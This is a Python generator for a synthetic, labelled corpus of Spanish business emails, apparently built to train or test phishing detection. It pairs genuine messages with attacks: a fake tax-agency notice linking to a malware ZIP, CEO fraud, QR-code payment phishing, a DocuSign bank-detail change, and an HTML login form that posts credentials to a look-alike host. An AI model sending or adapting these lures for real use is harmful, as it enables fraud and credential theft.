"""Spanish messages: business 27-31, attacks 27-31."""
from registry import attack, business
from compose import compose, REGISTRY
from util import local_utc as L, rng, alnum, hexs, uuid4
from world import S, BANK, TAX
import idnum as I
import senders as X
import assets as AS

F = I.fmt_iban
EG_ES = "Example Group Arquitectura S.L."


def docusign_bodies(sender_name, sender_mail, doc, message, r):
    envelope = uuid4(r)
    acct = "7e2c91d4-5a3b-4f08-9c61-b2e7d0f43a15" if "constructoralevante.es" in sender_mail else uuid4(r)
    link = "https://eu.docusign.net/Signing/EmailStart.aspx?a=%s&etti=24&acct=%s&er=%s" % (envelope, acct, uuid4(r))
    code = hexs(r, 32, upper=True)
    text = """%s le ha enviado un documento para revisar y firmar.

REVISAR DOCUMENTO
%s

%s
%s

%s

No comparta este correo electrónico
Este correo electrónico contiene un enlace seguro a Docusign. No comparta este correo electrónico, el enlace o el código de acceso con otras personas.

Método de firma alternativo
Visite Docusign.com, haga clic en "Acceder a documentos" e introduzca el código de seguridad: %s

Acerca de Docusign
Firme documentos electrónicamente en solo unos minutos. Es seguro. Tanto si está en la oficina, en casa o de viaje, Docusign le ofrece una solución fiable para la gestión de transacciones digitales.

¿Tiene preguntas sobre el documento?
Si necesita modificar el documento o tiene preguntas sobre los detalles del documento, póngase en contacto con el remitente directamente mediante correo electrónico.

Informar de este correo electrónico o leer más sobre Docusign en la página de soporte: https://support.docusign.com/
Este mensaje se envió a usted por %s a través del servicio de firma electrónica Docusign.""" % (
        sender_name, link, sender_name, sender_mail, message, code, sender_name)
    html = """<!DOCTYPE html><html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="margin:0;padding:0;background:#eaeaea">
<table width="100%%" cellpadding="0" cellspacing="0" style="background:#eaeaea"><tr><td align="center" style="padding:20px 0">
<table width="640" cellpadding="0" cellspacing="0" style="background:#ffffff;font-family:Helvetica,Arial,sans-serif">
<tr><td style="padding:24px"><img src="https://eu.docusign.net/Member/Images/email/docusign-logo.png" width="116" alt="Docusign"></td></tr>
<tr><td style="padding:0 24px"><table width="100%%" style="background:#1e4ca1"><tr><td align="center" style="padding:28px;color:#ffffff;font-size:16px">
%s le ha enviado un documento para revisar y firmar.<br><br>
<a href="%s" style="background:#ffc820;color:#333;font-weight:bold;font-size:15px;text-decoration:none;padding:12px 22px;display:inline-block">REVISAR DOCUMENTO</a></td></tr></table></td></tr>
<tr><td style="padding:24px;font-size:15px;color:#333"><b>%s</b><br><a href="mailto:%s" style="color:#2463d1">%s</a><br><br>%s</td></tr>
<tr><td style="padding:0 24px 24px 24px;font-size:12px;color:#666;background:#f4f4f4"><br><b>No comparta este correo electr&oacute;nico</b><br>Este correo electr&oacute;nico contiene un enlace seguro a Docusign. No comparta este correo electr&oacute;nico, el enlace o el c&oacute;digo de acceso con otras personas.<br><br>
<b>M&eacute;todo de firma alternativo</b><br>Visite Docusign.com, haga clic en &quot;Acceder a documentos&quot; e introduzca el c&oacute;digo de seguridad: %s<br><br>
<b>Acerca de Docusign</b><br>Firme documentos electr&oacute;nicamente en solo unos minutos.<br><br>
<b>&iquest;Tiene preguntas sobre el documento?</b><br>Si necesita modificar el documento o tiene preguntas sobre los detalles del documento, p&oacute;ngase en contacto con el remitente directamente mediante correo electr&oacute;nico.</td></tr>
</table></td></tr></table></body></html>
""" % (sender_name, link, sender_name, sender_mail, sender_mail, message.replace("\n", "<br>"), code)
    return text, html


# ====================================================================== business

@business(27, "es", "gestoria-notificacion-dehu-requerimiento",
          what="The Madrid office's tax advisor reports that she downloaded an AEAT notification (information request on VAT form 303) from the DEHú with her proxy certificate and attaches the PDF.",
          why="Known advisor on her own domain through her hosting SMTP with Outlook; she accessed DEHú herself, attaches the plain PDF, asks for supporting documents - no link to a government portal, no credentials requested.",
          pair="attack 27")
def b27():
    t = L("CE", 2026, 11, 3, 12, 26, 14)
    text = """Hola Lucía:

Esta mañana hemos accedido con nuestro certificado de apoderamiento a la DEHú y hay una notificación de la AEAT para %s: es un requerimiento de información sobre el modelo 303 del tercer trimestre (expediente 2026GRC28170552Q). Te adjunto el PDF tal como lo hemos descargado.

Piden justificantes de las facturas recibidas de importe superior a 3.000 € que aparecen en el Libro Registro (son seis, la mayoría de la constructora de Valencia y del taller de maquetas). El plazo es de 10 días hábiles desde hoy, así que deberíamos presentarlo por registro electrónico antes del 17 de noviembre.

¿Me puedes mandar las facturas escaneadas y los justificantes de pago antes del jueves? Yo preparo el escrito de contestación.

Un saludo,

Carmen Ortega
Ortega Asesores - Asesoría fiscal y contable
C/ Príncipe de Vergara 86, 3º Izda. - 28006 Madrid
Tel. 91 562 38 14""" % EG_ES
    att = AS.pdf([
        "# Agencia Tributaria",
        "Delegación Especial de Madrid - Dependencia Regional de Gestión Tributaria",
        "",
        "## REQUERIMIENTO DE INFORMACIÓN",
        "Expediente: 2026GRC28170552Q      Fecha: 30/10/2026",
        "Obligado tributario: " + EG_ES + " - NIF " + TAX["eg_es_cif"],
        "Concepto: IVA - Autoliquidación modelo 303, ejercicio 2026, periodo 3T",
        "",
        "Por medio del presente se le requiere para que aporte, en el plazo de diez días hábiles contados a partir",
        "del siguiente a la notificación, las facturas recibidas y los justificantes de pago de las operaciones",
        "relacionadas en el anexo, de conformidad con los artículos 29 y 93 de la Ley 58/2003, General Tributaria.",
        "",
        "Código Seguro de Verificación: HX7RK4LQ2MZP9TVA",
    ], title="Requerimiento 2026GRC28170552Q", author="AEAT", producer="iText 7.2.5",
        date=AS.pdfdate(2026, 10, 30, 9, 12))
    return compose(X.ortega(charset="windows-1252"), ("Carmen Ortega", "carmen.ortega@ortegaasesores.es"),
                   [S("acc_mad")], "Notificación AEAT en DEHú - requerimiento modelo 303 3T", t, text, name="b27",
                   attachments=[("Requerimiento_AEAT_2026GRC28170552Q.pdf", "application/pdf", att)])


@business(28, "es", "interno-pago-urgente-maquetas",
          what="Madrid office manager asks the Madrid accountant (internal mail) to pay an advance to the existing model-making workshop today; approved in the workflow.",
          why="Internal relay with Exchange hop from the colleague's real mailbox; supplier already registered, approval reference given, normal channel - the same topic as the look-alike CEO fraud but genuine.",
          pair="attack 28")
def b28():
    t = L("CE", 2026, 11, 18, 9, 37, 51)
    text = """Lucía, buenos días:

Necesito que hoy salga el pago del anticipo a Maquetas Turia S.L. para la maqueta del concurso del frente marítimo de Valencia (proveedor ya dado de alta, el IBAN es el de siempre). Es la factura proforma PF-26/112 por 2.420,00 € (IVA incluido); el 50 % restante se paga a la entrega.

Si no pagan hoy no pueden empezar el corte láser esta semana y no llegamos a la entrega del 4 de diciembre. La solicitud ya está aprobada en el flujo (SOL-MAD-2026-0233).

Gracias,
Javier

Javier Muñoz
Office Manager Madrid
Example Group Arquitectura S.L. | C/ de Alcalá 144 | 28009 Madrid
T +34 915 21 48 30"""
    return compose(X.internal(lang="es-ES", charset="iso-8859-15"), S("mgr_mad"), [S("acc_mad")],
                   "Pago anticipo maqueta concurso Valencia - hoy, por favor", t, text, name="b28")


@business(29, "es", "cliente-reclamacion-planos-retrasados",
          what="Customer complaint: the general contractor's site manager complains about late execution drawings and dimension errors and demands a meeting.",
          why="Known customer contact on his company's Google Workspace; angry but concrete (sheet numbers, site consequences), asks for a meeting, no attachments or links.")
def b29():
    t = L("CE", 2026, 11, 11, 18, 3, 27)
    text = """Javier:

Os escribo bastante molesto. Los planos de ejecución de estructura y cimentación del Edificio Marítim (rev. C) que nos prometisteis para el viernes 6 todavía no han llegado, y en los que sí recibimos (E-04 y E-05) hay errores de cotas entre la planta y las secciones: en el eje 7 hay 15 cm de diferencia en la posición del muro de contención.

Tenemos la grúa montada y el encofrador parado desde el lunes. Cada día de retraso nos cuesta dinero y así no podemos seguir.

Necesito que mañana a primera hora me confirméis fecha de entrega de la rev. C completa y quién de vuestro equipo se hace cargo de revisar las cotas. Propongo reunión en obra el jueves a las 9:00 con vuestro jefe de proyecto.

Un saludo,

Raúl Navarro
Jefe de Obra
Constructora Levante S.L.
Av. de les Corts Valencianes 39 - 46015 València
Tel. 963 45 71 20"""
    return compose(X.workspace(), ("Raúl Navarro", "r.navarro@constructoralevante.es"), [S("mgr_mad")],
                   "Reclamación - planos de ejecución Edificio Marítim retrasados y errores de cotas", t, text,
                   name="b29")


@business(30, "es", "docusign-contrato-colaboracion-genuino",
          what="Genuine DocuSign envelope: the contractor's site manager sends a collaboration contract for the Marítim project for signature.",
          why="DocuSign's real infrastructure; the sender in the envelope is the known contact on his company domain, reply-to is the same address, document matches the ongoing project, no request for bank details.",
          pair="attack 30")
def b30():
    t = L("CE", 2026, 10, 8, 12, 11, 36)
    r = rng("b30-ds")
    text, html = docusign_bodies("Raúl Navarro", "r.navarro@constructoralevante.es",
                                 "Contrato de colaboración - Proyecto de ejecución Edificio Marítim",
                                 "Hola Javier, te envío el contrato de colaboración con los cambios que acordamos el martes (honorarios por fases y plazo de la rev. C). Firma tú y después lo firma nuestro gerente. Un saludo, Raúl", r)
    return compose(X.docusign(), ("Raúl Navarro via Docusign", "dse@eumail.docusign.net"), [S("mgr_mad")],
                   "Complete con Docusign: Contrato de colaboración - Proyecto de ejecución Edificio Marítim", t, text,
                   html, name="b30", reply_to=("Raúl Navarro", "r.navarro@constructoralevante.es"))


@business(31, "es", "newsletter-urbanismo-hoy-brevo",
          what="Subscribed urban-planning newsletter sent through Brevo with List-Unsubscribe (one-click).",
          why="Genuine ESP infrastructure with consistent bounce domain, List-Unsubscribe/-Post, editorial content linking to the publisher's site; subscribed recipient.",
          pair="attack 31")
def b31():
    t = L("CE", 2026, 11, 26, 8, 0, 4)
    r = rng("b31")
    unsub = "https://%s.r.sp1-brevo.net/mk/un/v2/sh/%s" % (alnum(r, 5, "abcdefghijklmnopqrstuvwxyz0123456789"), alnum(r, 48))
    text = """URBANISMO HOY - Boletín n.º 212 - noviembre 2026

- La nueva Ley de Vivienda y los planes generales: qué cambia para los ayuntamientos
  https://www.urbanismohoy.es/ley-vivienda-planes-generales
- Concursos: Valencia convoca el concurso del frente marítimo de Natzaret
  https://www.urbanismohoy.es/concursos
- Jornada técnica: renaturalización de patios escolares, 10 de diciembre, Madrid
  https://www.urbanismohoy.es/agenda

Recibes este boletín porque te suscribiste en urbanismohoy.es.
Darse de baja: %s
Urbanismo Hoy Ediciones S.L. - C/ Fuencarral 121 - 28010 Madrid""" % unsub
    html = """<html><head><meta charset="utf-8"></head><body style="background:#f0f0f0;margin:0">
<table width="600" align="center" style="background:#fff;font-family:Arial,sans-serif;color:#333">
<tr><td style="background:#c0392b;color:#fff;padding:20px;font-size:24px;font-weight:bold">URBANISMO HOY <span style="font-size:13px;font-weight:normal">Bolet&iacute;n n.&ordm; 212</span></td></tr>
<tr><td style="padding:20px;font-size:15px;line-height:1.5">
<h3>La nueva Ley de Vivienda y los planes generales</h3><p>Qu&eacute; cambia para los ayuntamientos. <a href="https://www.urbanismohoy.es/ley-vivienda-planes-generales">Leer m&aacute;s</a></p>
<h3>Concursos</h3><p>Valencia convoca el concurso del frente mar&iacute;timo de Natzaret. <a href="https://www.urbanismohoy.es/concursos">Ver convocatoria</a></p>
<h3>Agenda</h3><p>Jornada t&eacute;cnica: renaturalizaci&oacute;n de patios escolares, 10 de diciembre, Madrid.</p></td></tr>
<tr><td style="padding:16px 20px;font-size:11px;color:#888">Recibes este bolet&iacute;n porque te suscribiste en urbanismohoy.es. <a href="%s">Darse de baja</a><br>Urbanismo Hoy Ediciones S.L. &middot; C/ Fuencarral 121 &middot; 28010 Madrid</td></tr>
</table></body></html>
""" % unsub
    p = X.brevo(sender_domain="urbanismohoy.es")
    extra = [("List-Unsubscribe", "<%s>,\n <mailto:unsubscribe-%s@sp1-brevo.net?subject=unsubscribe>" % (unsub, alnum(r, 20, "abcdef0123456789"))),
             ("List-Unsubscribe-Post", "List-Unsubscribe=One-Click"),
             ("X-Mailin-Campaign", "212"), ("X-CSA-Complaints", "csa-complaints@eco.de")]
    return compose(p, ("Urbanismo Hoy", "boletin@urbanismohoy.es"), [S("mgr_mad")],
                   "Urbanismo Hoy n.º 212: Ley de Vivienda, concurso Natzaret, agenda", t, text, html, name="b31",
                   extra=extra)


# ====================================================================== attacks

@attack(27, "es", "aeat-notificacion-dehu-enlace-zip",
        what="Fake AEAT/DEHú notification about an information request on VAT form 303 with a direct 'download' link to a ZIP on a look-alike domain; sent from a compromised dental clinic's mailbox.",
        why="Tax-agency notice from an unrelated compromised domain; DEHú notifications never contain direct download links and come from government domains; link to sede-agenciatributaria.docs-dehu.com serving an archive (malware); legal-deadline pressure (contrast business 27).",
        technique="Malware delivery via link - national tax agency (AEAT/DEHú) lure", infra="compromised small business mailbox on cPanel/Exim",
        pair="business 27")
def a27():
    t = L("CE", 2026, 11, 4, 10, 11, 39)
    link = "https://sede-agenciatributaria.docs-dehu.com/descarga?exp=2026GRC28410078H&nif=" + TAX["eg_es_cif"]
    text = """Agencia Tributaria

Notificación electrónica

Le comunicamos que tiene a su disposición una notificación administrativa en la Dirección Electrónica Habilitada única (DEHú) en relación con el NIF %s.

Concepto: Requerimiento - IVA 3T 2026 (modelo 303)
Expediente: 2026GRC28410078H

Dispone de 10 días naturales para acceder a su contenido. Transcurrido dicho plazo, la notificación se entenderá practicada a todos los efectos (art. 43 de la Ley 39/2015).

Descargar notificación: %s

Agencia Estatal de Administración Tributaria""" % (TAX["eg_es_cif"], link)
    html = """<html><head><meta charset="utf-8"></head><body style="font-family:Arial,sans-serif;font-size:14px;color:#333">
<table width="620" cellpadding="0" cellspacing="0"><tr><td style="border-bottom:3px solid #a3003f;padding:10px 0">
<b style="color:#a3003f;font-size:20px">Agencia Tributaria</b></td></tr>
<tr><td style="padding:18px 0"><h3 style="margin:0 0 12px 0">Notificaci&oacute;n electr&oacute;nica</h3>
<p>Le comunicamos que tiene a su disposici&oacute;n una notificaci&oacute;n administrativa en la Direcci&oacute;n Electr&oacute;nica Habilitada &uacute;nica (DEH&uacute;) en relaci&oacute;n con el NIF <b>%s</b>.</p>
<p>Concepto: <b>Requerimiento - IVA 3T 2026 (modelo 303)</b><br>Expediente: <b>2026GRC28410078H</b></p>
<p>Dispone de 10 d&iacute;as naturales para acceder a su contenido. Transcurrido dicho plazo, la notificaci&oacute;n se entender&aacute; practicada a todos los efectos (art. 43 de la Ley 39/2015).</p>
<p><a href="%s" style="background:#a3003f;color:#fff;padding:10px 20px;text-decoration:none">Descargar notificaci&oacute;n</a></p>
<p style="font-size:11px;color:#777">Agencia Estatal de Administraci&oacute;n Tributaria</p></td></tr></table></body></html>
""" % (TAX["eg_es_cif"], link.replace("&", "&amp;"))
    p = X.cpanel("srv1187.hstgr-es.net", "82.223.119.40", sender_ip="5.181.86.223",
                 auth_user="recepcion@clinicadentalsanroque.es", sender_helo="[192.168.1.34]")
    return compose(p, ("Agencia Tributaria", "recepcion@clinicadentalsanroque.es"), [S("acc_mad")],
                   "Notificación electrónica: Requerimiento de información - Expediente 2026GRC28410078H", t, text,
                   html, name="a27")


@attack(28, "es", "fraude-ceo-dominio-parecido-whatsapp",
        what="CEO/manager fraud opener: 'Javier Muñoz' from the look-alike domain example-group.eu (real: examplegroup.eu / example.com) asks the Madrid accountant for her mobile number to continue on WhatsApp about a confidential deal.",
        why="Look-alike of the company's own domain on a DigitalOcean VPS with iPhone-style headers; secrecy, 'in a meeting with the notary', moving the conversation to WhatsApp to escape mail controls - first stage of CEO fraud (contrast the genuine internal request in business 28).",
        technique="BEC - CEO/manager fraud, move to WhatsApp (look-alike of own domain)", infra="look-alike domain on DigitalOcean VPS (iPhone Mail headers)",
        pair="business 28")
def a28():
    t = L("CE", 2026, 11, 18, 12, 54, 6)
    text = """Hola Lucía,

¿Puedes hablar ahora? Estoy reunido con el notario por una operación que estamos cerrando con la central de Múnich y no puedo atender llamadas.

Necesito que me pases tu número de móvil para escribirte por WhatsApp. Es un tema confidencial de la dirección y la Dra. Brenner me ha pedido que lo llevemos tú y yo directamente, sin comentarlo de momento con nadie más de la oficina.

Un saludo,
Javier

Enviado desde mi iPhone"""
    p = X.iphone_vps("mail.example-group.eu", "138.68.101.27", rdns="unknown", charset="utf-8",
                     cte="quoted-printable", quote_cs=False)
    return compose(p, ("Javier Muñoz", "javier.munoz@example-group.eu"), [S("acc_mad")],
                   "¿Estás en la oficina?", t, text, name="a28", text_only=True)


@attack(29, "es", "quishing-correos-aduana-ses",
        what="Quishing: 'Correos - Gestión Aduanera' says a parcel is held at customs pending a €1.99 fee; HTML with inline QR code to a payment page; sent through Amazon SES.",
        why="Postal-service branding from a look-alike domain via an abused SES account; small customs fee lure for card data, QR code on the phone bypasses URL filters, 48-hour return threat; Correos does not request customs payments by QR in e-mail.",
        technique="Quishing (QR code) - courier/customs fee card phishing", infra="Amazon SES (abused account), look-alike domain")
def a29():
    t = L("CE", 2026, 11, 30, 17, 22, 15)
    url = "https://correos-aduanas.pago-envios.top/es/CX418827361ES"
    qr = AS.qr_png(url, scale=5)
    text = """Correos - Gestión Aduanera

Su envío CX418827361ES procedente de fuera de la UE está retenido en la aduana de Madrid-Barajas.

Para su despacho es necesario abonar las tasas de gestión aduanera: 1,99 €.

Escanee el código QR de este correo con la cámara de su móvil para realizar el pago de forma segura. Si no se abonan las tasas en 48 horas, el envío será devuelto al remitente.

Gracias por confiar en Correos."""
    html = """<html><head><meta charset="utf-8"></head><body style="margin:0;background:#f4f4f4;font-family:Arial,sans-serif">
<table width="560" align="center" style="background:#fff;margin-top:16px" cellpadding="0" cellspacing="0">
<tr><td style="background:#fdc600;padding:16px 24px;font-size:22px;font-weight:bold;color:#002e6d">Correos <span style="font-size:13px;font-weight:normal">Gesti&oacute;n Aduanera</span></td></tr>
<tr><td style="padding:22px 24px;font-size:14px;color:#333;line-height:1.5">
<p>Su env&iacute;o <b>CX418827361ES</b> procedente de fuera de la UE est&aacute; retenido en la aduana de Madrid-Barajas.</p>
<p>Para su despacho es necesario abonar las tasas de gesti&oacute;n aduanera: <b>1,99 &euro;</b>.</p>
<p>Escanee el c&oacute;digo QR con la c&aacute;mara de su m&oacute;vil para realizar el pago de forma segura:</p>
<p style="text-align:center"><img src="cid:qr-pago@correos" width="200" height="200" alt="QR"></p>
<p style="font-size:12px;color:#777">Si no se abonan las tasas en 48 horas, el env&iacute;o ser&aacute; devuelto al remitente.</p></td></tr>
</table></body></html>
"""
    p = X.ses(region="eu-west-1")
    return compose(p, ("Correos", "avisos@correos-aduanas-envios.com"), [S("mgr_mad")],
                   "Su envío CX418827361ES está retenido en aduana - tasas pendientes (1,99 €)", t, text, html,
                   name="a29", inline=[("qr-pago@correos", "qr.png", "image/png", qr)])


@attack(30, "es", "docusign-abusado-cambio-datos-bancarios",
        what="Abused genuine DocuSign: an envelope 'Orden de pago y actualización de datos bancarios' sent via real DocuSign infrastructure by an account named 'Constructora Levante - Dpto. Jurídico' whose address is a Gmail mailbox.",
        why="The transport is genuine DocuSign, but the sending account is a free Gmail address impersonating a real customer (genuine envelopes come from r.navarro@constructoralevante.es, business 30); the lure is a bank-detail change with a same-day deadline; the document inside carries the phishing link.",
        technique="Abuse of a genuine e-signature service (DocuSign) - BEC/credential phishing", infra="genuine DocuSign EU infrastructure, free-mail sender account",
        pair="business 30")
def a30():
    t = L("CE", 2026, 11, 12, 16, 40, 2)
    r = rng("a30-ds")
    sender = "Constructora Levante - Dpto. Jurídico"
    mail = "levante.juridico.contratos@gmail.com"
    text, html = docusign_bodies(sender, mail, "Orden de pago y actualización de datos bancarios",
                                 "Estimada Lucía: adjuntamos la orden de pago actualizada y el certificado de titularidad de la nueva cuenta para las certificaciones de la obra Marítim Fase 2. Por favor, revise y firme antes de las 18:00 de hoy para que el pago de noviembre no se retrase. Atentamente, Departamento Jurídico", r)
    return compose(X.docusign(), ("%s via Docusign" % sender, "dse@eumail.docusign.net"), [S("acc_mad")],
                   "Complete con Docusign: Orden de pago y actualización de datos bancarios - Obra Marítim Fase 2", t,
                   text, html, name="a30", reply_to=(sender, mail))


@attack(31, "es", "plataforma-contratacion-html-login",
        what="Fake public-procurement platform notice: a clarification to a tender was published; the attached HTML 'pliego' is a local login form for the platform/Microsoft account posting to an attacker domain; sent via Mailgun.",
        why="Trade-specific lure (architecture tenders) from a look-alike domain via Mailgun; the Plataforma de Contratación del Sector Público never attaches login pages; credential form in an HTML attachment (no script) posts to a non-government host.",
        technique="Credential phishing - trade-specific portal (public tenders) via HTML attachment", infra="Mailgun bulk ESP, look-alike domain",
        pair="business 31")
def a31():
    t = L("CE", 2026, 11, 6, 9, 28, 44)
    text = """Plataforma de Contratación del Sector Público

Se ha publicado una aclaración en la licitación a la que está suscrito:

Expediente: 2026/URB-0417
Objeto: Servicio de redacción del proyecto básico y de ejecución para la reurbanización del entorno del Mercado de Vallehermoso
Órgano de contratación: Junta de Gobierno de la Ciudad de Madrid
Fecha límite de presentación: 20/11/2026 14:00

El documento de aclaraciones y los pliegos actualizados se adjuntan a este aviso. Para visualizarlos deberá identificarse con su usuario de la Plataforma.

Este es un mensaje automático, por favor no responda."""
    page = """<!DOCTYPE html><html lang="es"><head><meta charset="utf-8"><title>Plataforma de Contratación del Sector Público - Acceso</title>
<style>body{font-family:Arial,sans-serif;background:#eef1f4;margin:0}.hd{background:#2b4b7e;color:#fff;padding:14px 28px;font-size:18px}
.c{width:400px;margin:50px auto;background:#fff;padding:26px;border:1px solid #cfd6de}input{width:100%;padding:8px;margin:6px 0 12px 0;box-sizing:border-box;border:1px solid #aab}
.b{background:#2b4b7e;color:#fff;border:0;padding:10px 22px;font-size:15px}</style></head>
<body><div class="hd">Plataforma de Contrataci&oacute;n del Sector P&uacute;blico</div>
<div class="c"><h3 style="margin-top:0">Acceso a documentaci&oacute;n - Expediente 2026/URB-0417</h3>
<p style="font-size:13px">Identif&iacute;quese para visualizar el documento de aclaraciones y los pliegos actualizados.</p>
<form method="post" action="https://pcsp-acceso.contratacion-docs.com/auth/login.php">
<label style="font-size:13px">Correo electr&oacute;nico<input type="email" name="usuario"></label>
<label style="font-size:13px">Contrase&ntilde;a<input type="password" name="clave"></label>
<input type="hidden" name="exp" value="2026-URB-0417">
<button class="b" type="submit">Acceder</button></form>
<p style="font-size:11px;color:#888">Puede utilizar tambi&eacute;n las credenciales de su cuenta corporativa Microsoft 365.</p></div></body></html>
"""
    p = X.mailgun(mg_domain="mg.contrataciondelestado-avisos.es")
    return compose(p, ("Plataforma de Contratación del Sector Público", "avisos@contrataciondelestado-avisos.es"),
                   [S("mgr_mad")], "Aclaración publicada - Expediente 2026/URB-0417 - pliegos actualizados", t, text,
                   name="a31", text_only=True,
                   attachments=[("Pliegos_aclaraciones_2026-URB-0417.html", "text/html", page.encode("utf-8"),
                                 {"ct_extra": '; charset="utf-8"'})])
